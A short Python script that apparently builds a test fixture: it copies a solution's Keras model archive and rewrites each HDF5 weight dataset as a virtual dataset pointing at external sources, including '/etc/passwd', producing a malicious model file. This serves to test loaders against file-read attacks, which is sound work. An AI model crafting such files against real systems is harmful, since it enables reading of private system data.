import io
import shutil
import zipfile

import h5py


def virtual(content):
    buffer = io.BytesIO(content)
    with h5py.File(buffer, "r+", libver="latest") as file:
        found = []
        file.visititems(lambda name, thing: found.append((name, thing.shape, thing.dtype))
                        if isinstance(thing, h5py.Dataset) else None)
        for name, shape, dtype in found:
            del file[name]
            layout = h5py.VirtualLayout(shape=shape, dtype=dtype)
            for source in (".", "/etc/passwd"):
                layout[...] = h5py.VirtualSource(source, name, shape=shape)
            file.create_virtual_dataset(name, layout, fillvalue=float("nan"))
    return buffer.getvalue()


def make(place, solution):
    shutil.copytree(solution, place, dirs_exist_ok=True)
    with zipfile.ZipFile(solution / "model.keras") as old:
        with zipfile.ZipFile(place / "model.keras", "w") as new:
            for name in old.namelist():
                content = old.read(name)
                new.writestr(name, virtual(content) if name.endswith(".h5") else content)
    return place
